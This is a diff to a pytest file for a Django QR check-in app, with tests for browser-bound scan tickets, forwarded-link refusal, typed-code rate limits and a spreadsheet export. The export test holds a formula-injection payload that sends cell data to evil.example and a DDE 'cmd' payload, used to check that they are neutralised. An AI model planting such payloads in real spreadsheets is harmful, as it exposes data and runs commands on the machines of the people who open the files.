@@ -1,15 +1,20 @@
 """Rotating-QR check-in: the code, the rules against proxy sign-in, manual entries, attendance."""
 
 import datetime as dt
+import io
+import threading
 
 import pytest
 import time_machine
 from django.core.exceptions import ValidationError
+from django.db import connections
 from django.urls import reverse
 from openpyxl import load_workbook
+from openpyxl.utils.escape import unescape
 
-from learntrace.checkin import services
-from learntrace.checkin.models import Attendance, CheckInEvent, Meeting
+from conftest import PASSWORD
+from learntrace.checkin import services, tasks, typed_codes
+from learntrace.checkin.models import Attendance, CheckInEvent, CodeGuesses, Meeting, ScanTicket
 from learntrace.checkin.services import IN, OUT, CheckInRefused
 from learntrace.records.models import Completion, CreditedTime
 
@@ -150,13 +155,95 @@ def test_manual_entries_need_a_reason_and_are_recorded_as_manual(org, meeting):
 
 
 def test_a_ticket_keeps_the_moment_of_the_scan(meeting):
-    with time_machine.travel(at(0), tick=False):
-        ticket = services.make_ticket(meeting, IN, at(0), "scan")
-    with time_machine.travel(at(5), tick=False):
-        assert services.read_ticket(ticket)["scanned_at"] == at(0)
-    with time_machine.travel(at(11), tick=False):
-        refused("stale_scan", lambda: services.read_ticket(ticket))
-    refused("invalid", lambda: services.read_ticket(ticket[:-3] + "abc"))
+    secret = services.new_browser_secret()
+    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
+    assert services.open_ticket(key=key, browser_secret=secret, now=at(5)).scanned_at == at(0)
+    refused("stale_scan", lambda: services.open_ticket(key=key, browser_secret=secret, now=at(10.01)))
+    refused("invalid", lambda: services.open_ticket(key=key[:-3] + "abc", browser_secret=secret, now=at(5)))
+    refused("invalid", lambda: services.open_ticket(key="é" * 43, browser_secret=secret, now=at(5)))
+    assert ScanTicket.objects.get().key_hash != key and secret not in ScanTicket.objects.get().browser_hash
+
+
+def test_a_ticket_is_for_the_browser_that_scanned(org, meeting):
+    secret = services.new_browser_secret()
+    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
+    for other in (None, "", services.new_browser_secret(), secret[:-1], secret + "x", "é" * 43):
+        refused("other_browser", lambda other=other: services.open_ticket(key=key, browser_secret=other,
+                                                                           now=at(1)))
+        refused("other_browser", lambda other=other: services.confirm_ticket(
+            key=key, browser_secret=other, employee=org.learner, device_id="phone-c", now=at(1)))
+    assert not Attendance.objects.exists()
+    assert CheckInEvent.objects.filter(kind=CheckInEvent.Kind.REFUSED, reason="other_browser",
+                                       employee=org.learner).count() == 6
+    ticket, attendance = services.confirm_ticket(key=key, browser_secret=secret, employee=org.learner,
+                                                 device_id="phone-a", now=at(2))
+    assert attendance.checked_in_at == at(0) and ticket.used_by == org.learner
+
+
+def test_a_ticket_is_used_once(org, meeting):
+    secret = services.new_browser_secret()
+    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
+    services.confirm_ticket(key=key, browser_secret=secret, employee=org.learner, device_id="phone-a", now=at(1))
+    refused("ticket_used", lambda: services.confirm_ticket(key=key, browser_secret=secret, employee=org.head,
+                                                           device_id="phone-b", now=at(2)))
+    refused("ticket_used", lambda: services.open_ticket(key=key, browser_secret=secret, now=at(2)))
+    assert list(Attendance.objects.values_list("employee", flat=True)) == [org.learner.pk]
+    assert ScanTicket.objects.get().used_at == at(1)
+
+
+def test_a_refused_check_in_leaves_the_ticket_for_another_try(org, meeting):
+    meeting.latitude, meeting.longitude, meeting.radius_m = 31.2304, 121.4737, 200
+    meeting.save()
+    secret = services.new_browser_secret()
+    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
+    refused("location_needed", lambda: services.confirm_ticket(key=key, browser_secret=secret,
+                                                               employee=org.learner, device_id="p", now=at(1)))
+    assert ScanTicket.objects.get().used_at is None
+    _ticket, attendance = services.confirm_ticket(key=key, browser_secret=secret, employee=org.learner,
+                                                  device_id="p", latitude=31.2305, longitude=121.4738, now=at(2))
+    assert attendance.checked_in_at == at(0)
+
+
+@pytest.mark.django_db(transaction=True)
+def test_two_parallel_confirms_of_one_ticket_check_in_one_person(org, meeting):
+    meeting.roster = Meeting.Roster.OPEN
+    meeting.save()
+    secret = services.new_browser_secret()
+    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
+    people = [org.learner, org.head, org.outsider, org.auditor]
+    outcomes, start = {}, threading.Barrier(len(people))
+
+    def confirm(person):
+        try:
+            start.wait()
+            services.confirm_ticket(key=key, browser_secret=secret, employee=person, device_id=f"d{person.pk}",
+                                    now=at(1))
+            outcomes[person.pk] = "done"
+        except CheckInRefused as refusal:
+            outcomes[person.pk] = refusal.reason
+        finally:
+            connections.close_all()
+
+    threads = [threading.Thread(target=confirm, args=(person,)) for person in people]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert sorted(outcomes.values()) == ["done", "ticket_used", "ticket_used", "ticket_used"]
+    winner = next(pk for pk, outcome in outcomes.items() if outcome == "done")
+    assert list(Attendance.objects.values_list("employee", flat=True)) == [winner]
+    assert ScanTicket.objects.get().used_by_id == winner
+
+
+def test_old_tickets_are_forgotten(meeting):
+    secret = services.new_browser_secret()
+    for minutes in (0, 60 * 24 + 1):
+        services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(-minutes), via="scan", browser_secret=secret)
+    assert services.forget_old_tickets(now=at(1)) == 1
+    assert ScanTicket.objects.get().scanned_at == at(0)
+    with time_machine.travel(at(60 * 24 + 1), tick=False):
+        tasks.forget_old_tickets.call_local()  # what the worker runs every hour
+    assert not ScanTicket.objects.exists()
 
 
 # ---------------------------------------------------------------- through the pages
@@ -188,14 +275,61 @@ def test_an_old_code_is_refused_in_the_learners_language(org, client_for, meetin
 
 
 def test_the_device_cookie_binds_a_phone(org, client, meeting):
+    secret = services.new_browser_secret()
+    client.cookies["learntrace_scan"] = secret
     with time_machine.travel(at(0), tick=False):
-        ticket = services.make_ticket(meeting, IN, at(0), "scan")
+        first, second = (services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan",
+                                               browser_secret=secret) for _ in range(2))
         client.force_login(org.head.user)
-        client.post(reverse("checkin:ticket", args=[ticket]))
+        client.post(reverse("checkin:ticket", args=[first]))
         client.force_login(org.learner.user)  # the same browser, another person
-        response = client.post(reverse("checkin:ticket", args=[ticket]))
+        response = client.post(reverse("checkin:ticket", args=[second]))
     assert 'data-reason="device_used"' in response.text
     assert not Attendance.objects.filter(employee=org.learner).exists()
+
+
+def test_a_forwarded_link_checks_no_one_in(org, client, client_for, meeting):
+    """A scans before logging in and sends the link on; C opens it 39 s later, logged in."""
+    from django.test import Client
+
+    scanner = Client()
+    with time_machine.travel(at(0), tick=False):
+        code = services.current_codes(meeting, at(0))["token"]
+        response = scanner.get(reverse("checkin:scan", args=[meeting.pk, code]))
+    ticket_url = response["Location"].split("next=")[1]
+    cookie = response.cookies["learntrace_scan"]
+    assert cookie["httponly"] and cookie["samesite"] == "Lax" and cookie["max-age"] == 600
+    assert ScanTicket.objects.get().browser_hash != cookie.value
+
+    receiver = client_for(org.learner, language="zh-hans")
+    with time_machine.travel(at(0.65), tick=False):
+        page = receiver.get(ticket_url)
+        posted = receiver.post(ticket_url)
+    assert 'data-reason="other_browser"' in page.text and "自己扫描屏幕上的二维码" in page.text
+    assert 'data-reason="other_browser"' in posted.text
+    assert not Attendance.objects.exists()
+    assert CheckInEvent.objects.filter(reason="other_browser", employee=org.learner).count() == 2
+
+    receiver.cookies["django_language"] = "en"
+    with time_machine.travel(at(0.7), tick=False):
+        english = receiver.get(ticket_url).text
+    assert "a link sent on by someone else does not check you in" in english
+
+
+def test_the_scan_survives_a_real_login_in_the_same_browser(org, client, meeting):
+    with time_machine.travel(at(0), tick=False):
+        code = services.current_codes(meeting, at(0))["token"]
+        response = client.get(reverse("checkin:scan", args=[meeting.pk, code]))
+        login = client.post(response["Location"], {"username": "learner", "password": PASSWORD})
+        assert login.status_code == 302
+        ticket_url = login["Location"]
+        assert ticket_url.startswith("/checkin/t/")
+    with time_machine.travel(at(2), tick=False):
+        assert client.get(ticket_url).status_code == 200
+        result = client.post(ticket_url)
+        again = client.post(ticket_url)
+    assert 'data-outcome="done"' in result.text and 'data-reason="ticket_used"' in again.text
+    assert Attendance.objects.get(employee=org.learner).checked_in_at == at(0)
 
 
 def test_typing_the_code(org, client_for, meeting):
@@ -295,3 +429,179 @@ def test_a_code_used_after_it_changed_from_elsewhere_is_listed(org, client_for, 
         page = client_for(org.admin).get(reverse("checkin:suspicious")).text
     listed = page.split('class="late-codes"')[1].split("</table>")[0]
     assert org.head.name in listed and org.learner.name not in listed
+
+
+# ---------------------------------------------------------------- codes are ASCII
+
+
+@pytest.mark.parametrize("presented", ["éé", "%C3%A9%C3%A9", "é" * 16, "ａ" * 16, "١" * 16, "A" * 17, ""])
+def test_a_code_of_other_characters_is_invalid_not_an_error(meeting, presented):
+    refused("invalid", lambda: services.judge_scan(meeting, presented, at(0)))
+    refused("invalid", lambda: services.judge_scan(meeting, presented, at(0), typed=True))
+
+
+def test_an_anonymous_scan_of_a_non_ascii_code_is_refused_in_words(org, client, meeting):
+    client.cookies["django_language"] = "en"
+    with time_machine.travel(at(0), tick=False):
+        response = client.get(f"/checkin/s/{meeting.pk}/%C3%A9%C3%A9/")
+    assert response.status_code == 200 and 'data-reason="invalid"' in response.text
+    assert "This is not a valid check-in code." in response.text
+    assert CheckInEvent.objects.get().reason == "invalid"
+
+
+@pytest.mark.parametrize("digits", ["٠١٢٣٤٥٦٧٨٩", "۰۱۲۳۴۵۶۷۸۹", "²¹³⁴⁵⁶⁷⁸⁹⁰"])
+def test_typed_digits_of_other_scripts_are_refused_in_words(org, client_for, meeting, digits):
+    client = client_for(org.learner)
+    with time_machine.travel(at(0), tick=False):
+        code = services.current_codes(meeting, at(0))["code"]
+        other = code.translate(str.maketrans("0123456789", digits))
+        number = str(meeting.pk).translate(str.maketrans("0123456789", digits))
+        response = client.post(reverse("checkin:code"), {"meeting": number, "code": other})
+    assert response.status_code == 200
+    assert "The code has six digits." in response.text and "The meeting number is a whole number" in response.text
+    assert not Attendance.objects.exists()
+
+
+def test_full_width_digits_from_a_phone_keyboard_are_read_as_digits(org, client_for, meeting):
+    client = client_for(org.learner)
+    full_width = str.maketrans("0123456789", "０１２３４５６７８９")
+    with time_machine.travel(at(0), tick=False):
+        code = services.current_codes(meeting, at(0))["code"]
+        response = client.post(reverse("checkin:code"), {"meeting": str(meeting.pk).translate(full_width),
+                                                         "code": " " + code.translate(full_width) + " "})
+        assert response.status_code == 302
+        client.post(response["Location"])
+    assert Attendance.objects.get(employee=org.learner).method == "code"
+
+
+# ---------------------------------------------------------------- the export
+
+
+def test_the_export_keeps_formula_like_names_and_reasons_as_text(org, client_for, meeting):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    org.learner.name = formula
+    org.learner.save()
+    for prefix in ("=", "+", "-", "@", "\t", "\r"):
+        assert services.manual(meeting=meeting, employee=org.learner, actor=org.admin.user,
+                               reason=prefix + "cmd|' /C calc'!A0", kind=CheckInEvent.Kind.EXCUSED, now=at(0))
+        response = client_for(org.admin).get(reverse("checkin:export", args=[meeting.pk]))
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == org.learner.employee_no)
+        assert row[1].value == formula and row[1].data_type == "s"
+        assert unescape(row[11].value) == prefix + "cmd|' /C calc'!A0" and row[11].data_type == "s"
+
+
+# ---------------------------------------------------------------- typed codes are rate-limited
+
+
+def wrong_codes(meeting, when, count):
+    """Six-digit codes that are neither valid nor expired at `when` (so each is plainly "invalid")."""
+    step = services.step_at(meeting, when)
+    known = {services.short_code(meeting, s, m) for s in range(step - 362, step + 1) for m in (IN, OUT)}
+    return [code for code in (f"{n:06d}" for n in range(0, 1_000_000, 7919)) if code not in known][:count]
+
+
+def type_code(meeting, employee, code, when, ip="10.0.0.1"):
+    return typed_codes.judge_typed_code(meeting=meeting, employee=employee, ip=ip, code=code, now=when)
+
+
+def test_five_wrong_codes_lock_a_person_out_for_the_rest_of_the_window(org, meeting):
+    right = services.current_codes(meeting, at(0))["code"]
+    for code in wrong_codes(meeting, at(0), 5):
+        refused("invalid", lambda code=code: type_code(meeting, org.learner, code, at(0)))
+    with pytest.raises(CheckInRefused) as caught:
+        type_code(meeting, org.learner, right, at(1))  # even the right code: the lockout holds
+    assert caught.value.reason == "code_locked" and caught.value.until == at(15)
+    with time_machine.travel(at(1), tick=False):
+        assert caught.value.message == ("Too many wrong codes: you can type a code again in 14 minutes. "
+                                        "Meanwhile, scan the QR code, or ask the organiser to check you in.")
+    assert type_code(meeting, org.head, services.current_codes(meeting, at(1))["code"], at(1)) == (IN, False)
+    later = at(15)
+    assert type_code(meeting, org.learner, services.current_codes(meeting, later)["code"], later) == (IN, False)
+    person = CodeGuesses.objects.get(scope=CodeGuesses.Scope.PERSON, employee=org.learner)
+    assert (person.wrong_total, person.lockouts, person.failures, person.locked_until) == (5, 1, 0, at(15))
+    assert list(CheckInEvent.objects.filter(employee=org.learner).values_list("reason", flat=True)
+                .order_by("pk")) == ["invalid"] * 5 + ["code_locked"]
+
+
+def test_right_codes_are_not_counted(org, meeting):
+    for minute in range(12):
+        now = at(minute / 6)
+        assert type_code(meeting, org.learner, services.current_codes(meeting, now)["code"], now)[0] == IN
+    assert set(CodeGuesses.objects.values_list("failures", "wrong_total")) == {(0, 0)}
+
+
+def test_an_address_is_limited_across_people(org, meeting, settings):
+    from conftest import make_employee
+
+    meeting.roster = Meeting.Roster.OPEN
+    meeting.save()
+    people = [make_employee(f"G{i}", f"Guesser {i}", org.b) for i in range(6)]
+    codes = iter(wrong_codes(meeting, at(0), 30))
+    for person in people[:5]:
+        for _ in range(4):
+            refused("invalid", lambda person=person: type_code(meeting, person, next(codes), at(0), ip="10.9.9.9"))
+    refused("code_locked", lambda: type_code(meeting, people[5], next(codes), at(0), ip="10.9.9.9"))
+    refused("invalid", lambda: type_code(meeting, people[5], next(codes), at(0), ip="10.9.9.10"))
+    address = CodeGuesses.objects.get(scope=CodeGuesses.Scope.ADDRESS, ip="10.9.9.9")
+    assert (address.wrong_total, address.lockouts) == (20, 1)
+
+
+def test_the_whole_meeting_is_limited_across_people_and_addresses(org, meeting, settings):
+    settings.CHECKIN_CODE_MEETING_LIMIT = 4
+    codes = iter(wrong_codes(meeting, at(0), 10))
+    for index, person in enumerate([org.learner, org.learner, org.head, org.head]):
+        refused("invalid", lambda person=person, ip=f"10.0.0.{index}": type_code(meeting, person, next(codes), at(0),
+                                                                                 ip=ip))
+    with pytest.raises(CheckInRefused) as caught:
+        type_code(meeting, org.outsider, next(codes), at(5), ip="10.0.0.99")
+    assert caught.value.reason == "meeting_code_locked"
+    with time_machine.travel(at(14.5), tick=False):
+        assert "typing a code works again in 1 minute." in caught.value.message
+    # Someone stopped by the meeting's limit is not charged for it.
+    assert not CodeGuesses.objects.filter(employee=org.outsider, wrong_total__gt=0).exists()
+
+
+@pytest.mark.django_db(transaction=True)
+def test_parallel_wrong_codes_cannot_pass_the_limit(org, meeting):
+    codes = wrong_codes(meeting, at(0), 12)
+    outcomes, start = [], threading.Barrier(len(codes))
+
+    def guess(code):
+        try:
+            start.wait()
+            type_code(meeting, org.learner, code, at(0))
+        except CheckInRefused as refusal:
+            outcomes.append(refusal.reason)
+        finally:
+            connections.close_all()
+
+    threads = [threading.Thread(target=guess, args=(code,)) for code in codes]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert sorted(outcomes) == ["code_locked"] * 7 + ["invalid"] * 5
+    person = CodeGuesses.objects.get(scope=CodeGuesses.Scope.PERSON)
+    assert (person.wrong_total, person.failures, person.lockouts) == (5, 5, 1)
+
+
+def test_a_lockout_is_told_in_the_learners_language_and_shown_to_the_organiser(org, client_for, meeting):
+    learner = client_for(org.learner, language="zh-hans")
+    with time_machine.travel(at(0), tick=False):
+        for code in wrong_codes(meeting, at(0), 5):
+            page = learner.post(reverse("checkin:code"), {"meeting": meeting.pk, "code": code})
+            assert 'data-reason="invalid"' in page.text
+    with time_machine.travel(at(3), tick=False):
+        right = services.current_codes(meeting, at(3))["code"]
+        page = learner.post(reverse("checkin:code"), {"meeting": meeting.pk, "code": right})
+    assert 'data-reason="code_locked"' in page.text and "12 分钟" in page.text
+    assert not Attendance.objects.exists()
+    with time_machine.travel(at(4), tick=False):
+        detail = client_for(org.head).get(reverse("checkin:meeting", args=[meeting.pk])).text
+    table = detail.split('class="card code-guesses"')[1].split("</table>")[0]
+    person_row = table.split('data-scope="person"')[1].split("</tr>")[0]
+    assert org.learner.name in person_row and '<td class="wrong">5</td>' in person_row
+    assert '<td class="lockouts">1</td>' in person_row and "17:15:00" in person_row  # 09:15 UTC, in Shanghai
+    meeting_row = table.split('data-scope="meeting"')[1].split("</tr>")[0]
+    assert '<td class="wrong">5</td>' in meeting_row and '<td class="lockouts">0</td>' in meeting_row
